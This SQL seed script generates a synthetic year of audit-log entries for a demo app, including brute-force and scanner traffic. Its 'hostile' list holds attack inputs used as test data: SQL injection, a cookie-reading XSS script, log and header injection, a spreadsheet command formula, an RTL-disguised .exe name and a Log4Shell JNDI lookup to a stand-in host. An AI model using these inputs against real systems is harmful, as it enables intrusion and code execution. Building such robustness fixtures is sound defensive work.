-- One year of the audit log: sessions, slips, attacks and moderation. demo/data.py runs
-- it after data_accounts.sql, whose table `person` it uses.

-- The events of one visit. `share` is how many of 92 visits are of this kind; a step comes
-- `seconds` after the begin. In the texts %1$s is the person, %2$s a number, %3$s a path
-- and %4$s the minutes since the visit began.
CREATE TEMP TABLE step ON COMMIT DROP AS
WITH kinds (visit, first, share, who) AS (
    VALUES
        ('log in and out', 0, 36, 'member'),
        ('log in', 36, 24, 'member'),
        ('mistype the password', 60, 9, 'member'),
        ('forget the password', 69, 3, 'member'),
        ('edit another''s place', 72, 2, 'member'),
        ('verify a place', 74, 2, 'moderator'),
        ('withdraw a place', 76, 1, 'moderator'),
        ('hide a review', 77, 1, 'moderator'),
        ('log in unconfirmed', 78, 2, 'squatter'),
        ('guess a password', 80, 4, NULL),
        ('scan', 84, 5, NULL),
        ('register a taken address', 89, 3, NULL)
),
steps (visit, seconds, event_type, message, metadata) AS (
    VALUES
        ('log in and out', 0, 'login_success', 'User %1$s logged in successfully',
            '{"path": "/api/auth/login/", "remember": true}'),
        ('log in and out', 4000, 'logout', 'User %1$s logged out',
            '{"session_minutes": %4$s}'),
        ('log in', 0, 'login_success', 'User %1$s logged in successfully',
            '{"path": "/api/auth/login/", "remember": false}'),
        ('mistype the password', 0, 'login_failed', 'Failed login attempt for: %1$s',
            '{"path": "/api/auth/login/", "reason": "invalid_credentials"}'),
        ('mistype the password', 30, 'login_success', 'User %1$s logged in successfully',
            '{"path": "/api/auth/login/", "remember": false}'),
        ('forget the password', 0, 'password_reset_requested',
            'Password reset requested for %1$s',
            '{"path": "/api/auth/password-reset/"}'),
        ('forget the password', 900, 'password_changed',
            'User %1$s changed their password', '{"via": "reset_link"}'),
        ('edit another''s place', 0, 'permission_denied',
            '%1$s may not edit location %2$s',
            '{"path": "/api/locations/%2$s/", "method": "PATCH"}'),
        ('verify a place', 0, 'location_verified', '%1$s verified location %2$s',
            '{"target_id": %2$s, "note": "dark enough"}'),
        ('withdraw a place', 0, 'location_unverified', '%1$s withdrew location %2$s',
            '{"target_id": %2$s, "note": "light dome"}'),
        ('hide a review', 0, 'content_moderated', '%1$s hid review %2$s',
            '{"target_id": %2$s, "note": "naïve – see “rules” §3"}'),
        ('log in unconfirmed', 0, 'login_failed',
            'Login refused, e-mail not verified: %1$s',
            '{"reason": "email_not_verified"}'),
        ('guess a password', 5, 'login_locked',
            'Account locked after 5 failed attempts: %1$s',
            '{"failures": 5, "locked_minutes": 60}'),
        ('register a taken address', 0, 'registration_failed',
            'Registration failed: a user with that e-mail exists',
            '{"errors": {"email": ["already in use"]}, "email": "%1$s@example.com"}')
    UNION ALL
    SELECT 'guess a password', n, 'login_failed', 'Failed login attempt for: %1$s',
        '{"path": "/api/auth/login/", "reason": "invalid_credentials"}'
    FROM generate_series(0, 4) AS n
    UNION ALL
    SELECT 'scan', n, 'access_forbidden', 'Forbidden: GET %3$s',
        '{"path": "%3$s", "method": "GET", "status": 403}'
    FROM generate_series(0, 3) AS n
)
SELECT * FROM kinds JOIN steps USING (visit);

-- The visitors; each group is counted from 0. A person keeps the same address and browser.
CREATE TEMP TABLE visitor ON COMMIT DROP AS
SELECT
    id,
    kind,
    username,
    joined,
    who,
    row_number() OVER (PARTITION BY who ORDER BY number) - 1 AS place,
    count(*) OVER (PARTITION BY who) AS visitors,
    CASE
        WHEN number % 3 = 0 THEN format('2001:db8:%s::%s', to_hex(number), number % 9)
        ELSE format('198.51.100.%s', number)
    END AS ip_address,
    'Mozilla/5.0 ' || (
        ARRAY[
            '(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/142.0.0.0',
            '(iPhone; CPU iPhone OS 19_1 like Mac OS X) Safari/604.1',
            '(X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0',
            '(Linux; Android 16; Pixel 10) AppleWebKit/537.36 Chrome/142.0.0.0 Mobile'
        ]
    )[1 + number % 4] AS user_agent
FROM person
CROSS JOIN LATERAL (
    SELECT CASE
        WHEN kind IN ('moderator', 'squatter') THEN kind
        WHEN seen IS NOT NULL THEN 'member'
    END AS who
) AS role;

-- The rows before were archived by the first version: demo/first_version.py.
SELECT setval(pg_get_serial_sequence('starview_app_auditlog', 'id'), 24);

INSERT INTO starview_app_auditlog (
    event_type, timestamp, success, message, user_id, username, ip_address, user_agent,
    metadata
)
WITH visits AS (
    SELECT
        step.event_type,
        greatest(visitor.joined, pg_temp.ago(365)) AS since,
        pg_temp.fraction(n)::float AS part,
        seconds * (0.2 + 1.8 * pg_temp.fraction(3 * n)) AS later,
        message,
        metadata,
        visitor.id AS user_id,
        CASE
            WHEN step.who IS NOT NULL THEN visitor.username
            WHEN visit = 'scan' THEN ''
            WHEN visit = 'guess a password'
                THEN (ARRAY['admin', 'root', 'test', 'starview', 'info'])[1 + n % 5]
            ELSE format('info%s', n % 1000)
        END AS username,
        CASE
            WHEN step.who IS NOT NULL THEN visitor.ip_address
            WHEN n % 33 > 0 THEN format('203.0.113.%s', 1 + n % 254)
        END AS ip_address, -- unknown behind a broken proxy
        CASE
            WHEN step.who IS NOT NULL THEN visitor.user_agent
            ELSE (ARRAY['curl/8.14.1', 'Go-http-client/2.0', 'sqlmap/1.9', ''])[1 + n % 4]
        END AS user_agent,
        1 + n % 40 AS target,
        (
            ARRAY['/.env', '/wp-login.php', '/admin/', '/.git/config', '/api/users/1/']
        )[1 + (n + seconds) % 5] AS path
    FROM generate_series(0, 10439) AS n
    JOIN step ON n % 92 >= first AND n % 92 < first + share
    LEFT JOIN visitor
        ON visitor.who = step.who
        AND visitor.place = (n * 53 + n / 92) % visitors
),
-- What people type into a log-in form to break or to forge a log.
hostile (text, number) AS (
    SELECT *
    FROM unnest(
        ARRAY[
            E'admin\n2026-01-01 00:00:00 UTC login_success admin',
            E'admin\r\n\r\nHTTP/1.1 200 OK',
            ''' OR ''1''=''1'' --',
            'Robert"); DROP TABLE starview_app_auditlog;--',
            '<script>alert(document.cookie)</script>',
            '"}, {"event_type": "login_success", "username": "admin"}, {"x": "',
            '\N',
            '\.',
            '=cmd|'' /C calc''!A0',
            E'tab\there, vertical\x0btab and a bell \x07',
            E'\x1b[2J\x1b[31mred\x1b[0m',
            E'invoice\u202efdp.exe',
            E'zero\u200bwidth\ufeff',
            E'line\u2028separator\u2029paragraph',
            'Zoë Ångström 🔭 星空',
            '%s %(user)s {0} ${jndi:ldap://192.0.2.66/a}',
            repeat('x', 150)
        ]
    ) WITH ORDINALITY
),
entries AS (
    SELECT
        event_type,
        since + (pg_temp.ago(0) - since) * part + later * interval '1 second' AS moment,
        format(message, username, target, path, round(later / 60)) AS message,
        user_id,
        username,
        ip_address,
        user_agent,
        format(metadata, username, target, path, round(later / 60))::jsonb AS metadata
    FROM visits
    UNION ALL
    SELECT
        'registration_success',
        joined,
        'New user registered: ' || username,
        id,
        username,
        ip_address,
        user_agent,
        jsonb_build_object('method', CASE kind WHEN 'google' THEN kind ELSE 'email' END)
    FROM visitor
    WHERE kind <> 'system'
    UNION ALL
    -- Each text twice: once old enough to be archived, once not.
    SELECT
        'login_failed',
        pg_temp.ago(days + number / 10.0),
        'Failed login attempt for: ' || text,
        NULL,
        text,
        '2001:db8:bad::66',
        left(text, 60),
        jsonb_build_object('reason', 'invalid_credentials', 'attempted', text)
    FROM hostile
    CROSS JOIN (VALUES (45), (12)) AS ages (days)
)
SELECT
    event_type,
    moment,
    event_type NOT IN (
        'login_failed', 'login_locked', 'registration_failed', 'permission_denied',
        'access_forbidden'
    ),
    message,
    user_id,
    username,
    ip_address::inet,
    user_agent,
    metadata
FROM entries
WHERE moment BETWEEN pg_temp.ago(365) AND pg_temp.ago(0)
ORDER BY moment;
